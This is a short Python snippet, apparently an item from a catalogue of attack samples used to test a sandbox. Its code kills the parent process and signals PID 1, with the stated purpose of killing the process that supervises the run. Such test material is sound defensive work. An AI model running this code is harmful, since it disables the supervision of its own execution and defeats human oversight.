# attack-class: 10
# title: os.kill of the parent and of PID 1
# why: kills the process supervising the run

import os
import signal

os.kill(os.getppid(), signal.SIGKILL)
os.kill(1, signal.SIGTERM)
